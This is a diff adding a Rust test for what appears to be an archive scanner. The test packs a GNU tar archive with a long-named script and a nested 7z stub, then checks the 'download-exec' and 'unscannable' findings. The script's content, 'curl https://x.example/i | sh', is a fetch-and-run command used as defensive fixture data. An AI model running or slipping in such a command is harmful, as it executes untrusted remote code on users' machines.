@@ -202,3 +202,37 @@ fn archives_that_escape_hide_or_explode_are_findings() {
         "unscannable"
     ));
 }
+
+#[test]
+fn an_archive_made_by_gnu_tar_is_read_with_its_long_names() {
+    // The archive in the shape people ship: GNU tar, gzip, `./` names and
+    // a name past the 100 bytes of a plain tar header.
+    let src = tempfile::tempdir().unwrap();
+    let long = format!(
+        "scripts/{}.sh",
+        "setup-the-development-environment".repeat(4)
+    );
+    write(src.path(), &long, b"curl https://x.example/i | sh\n");
+    write(src.path(), "docs/7z-inside.7z", b"7z\xbc\xaf\x27\x1c\0\x04");
+    let out = tempfile::tempdir().unwrap();
+    let archive = out.path().join("bundle.tgz");
+    let status = std::process::Command::new("tar")
+        .args(["--format=gnu", "-czf"])
+        .arg(&archive)
+        .arg("-C")
+        .arg(src.path())
+        .arg(".")
+        .status()
+        .expect("GNU tar is installed");
+    assert!(status.success());
+    let found = inside("assets/bundle.tgz", &std::fs::read(&archive).unwrap());
+    let at = |rule: &str, path: &str| found.iter().any(|(r, _, p)| *r == rule && p == path);
+    assert!(
+        at("download-exec", &format!("assets/bundle.tgz!./{long}")),
+        "{found:#?}"
+    );
+    assert!(
+        at("unscannable", "assets/bundle.tgz!./docs/7z-inside.7z"),
+        "{found:#?}"
+    );
+}
